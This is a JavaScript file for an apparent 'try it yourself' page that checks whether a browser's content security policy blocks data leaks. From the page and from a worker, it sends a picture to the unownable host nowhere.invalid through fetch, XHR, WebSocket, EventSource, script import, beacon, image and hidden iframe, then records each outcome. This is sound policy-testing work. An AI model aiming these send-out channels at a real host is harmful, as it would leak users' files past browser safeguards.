// Room: page. "Try it yourself": attempts to send a picture to another site, from the page and from a worker that is
// started like the app's own, each way that browsers have, and notes what the browser said. The address ends in
// .invalid, which nobody can own (RFC 6761): were an attempt not stopped, it would still arrive nowhere.

(() => {
  const NOWHERE = "https://nowhere.invalid/";
  // A refusal is reported within a frame; a name that does not exist, or a slow line, takes longer.
  const PATIENCE_MS = 1500;

  // Runs in both threads; the worker gets its text. One attempt after the other, so that reports can be told apart.
  async function attempts(target, picture, patience) {
    // What comes of a way whose failure is an event without words.
    const error = new Error("event");
    const socket = target.replace(/^http/, "ws");
    const event = (made, good) =>
      new Promise((resolve, reject) => {
        made[good] = resolve;
        made.onerror = () => reject(error);
      });
    const ways = {
      fetch: () => fetch(`${target}fetch`, { method: "POST", mode: "no-cors", body: picture }),
      xhr: () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.onload = resolve;
          request.onerror = () => reject(error);
          request.open("POST", `${target}xhr`);
          request.send(picture);
        }),
      socket: async () => {
        const opened = new WebSocket(`${socket}socket`);
        await event(opened, "onopen");
        opened.send(picture);
      },
      events: () => event(new EventSource(`${target}events`), "onopen"),
      script: () => import(`${target}script.js`),
    };
    if (typeof document !== "undefined") {
      ways.beacon = async () => {
        if (!navigator.sendBeacon(`${target}beacon`, picture)) throw error;
      };
      ways.image = () => {
        const image = new Image();
        image.src = `${target}image.png?${picture.size}`;
        return event(image, "onload");
      };
      ways.frame = () =>
        new Promise((resolve, reject) => {
          const frame = document.createElement("iframe");
          frame.hidden = true;
          frame.onload = resolve;
          setTimeout(() => reject(error), patience);
          frame.src = `${target}frame`;
          document.body.append(frame);
          setTimeout(() => frame.remove(), patience);
        });
    }
    const found = [];
    for (const [way, attempt] of Object.entries(ways)) {
      let directive = null;
      let report = "";
      const reported = new Promise((resolve) => {
        const listen = (violation) => {
          directive = violation.effectiveDirective;
          report = `securitypolicyviolation: ${violation.disposition} ${violation.effectiveDirective}, ${violation.blockedURI}`;
          self.removeEventListener("securitypolicyviolation", listen);
          resolve("reported");
        };
        self.addEventListener("securitypolicyviolation", listen);
        setTimeout(() => self.removeEventListener("securitypolicyviolation", listen), patience);
      });
      const later = new Promise((resolve) => setTimeout(resolve, patience, "late"));
      let said = "";
      const tried = Promise.resolve()
        .then(attempt)
        .then(
          () => "done",
          (cause) => {
            said = cause === error ? "event: error" : `${cause.name}: ${cause.message}`;
            return "refused";
          },
        );
      const ended = await Promise.race([tried, later]);
      // Whether the policy was the reason is said by a report of its own, which may come a moment later.
      await Promise.race([reported, new Promise((resolve) => setTimeout(resolve, 300))]);
      const outcome = directive ? "blocked" : ended === "done" ? "sent" : "failed";
      found.push({ way, outcome, directive, said: [said, report].filter(Boolean).join(" · ") });
    }
    return found;
  }

  async function fromWorker(target, picture) {
    const source = `onmessage = async ({data}) => postMessage(await (${attempts})(...data));`;
    const url = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
    const worker = new Worker(url, { type: "module" });
    try {
      return await new Promise((resolve, reject) => {
        worker.onmessage = ({ data }) => resolve(data);
        worker.onerror = () => reject(new Error("the worker did not start"));
        worker.postMessage([target, picture, PATIENCE_MS]);
      });
    } finally {
      worker.terminate();
      URL.revokeObjectURL(url);
    }
  }

  // Answers with [{where, way, outcome, directive, said}] as text; never rejects.
  async function tryAll(picture, target = NOWHERE) {
    const found = [];
    offcutLedger.spared = picture;
    for (const [where, run] of [["page", attempts], ["worker", fromWorker]]) {
      const tried = await run(target, picture, PATIENCE_MS).catch((cause) => [
        { way: "start", outcome: "failed", directive: null, said: String(cause) },
      ]);
      found.push(...tried.map((one) => ({ where, ...one })));
    }
    offcutLedger.spared = undefined;
    for (const one of found) if (one.outcome === "sent") offcutLedger.take({ bodies: 1, sent: picture.size });
    return JSON.stringify(found);
  }

  globalThis.offcutLeaks = { tryAll };
})();
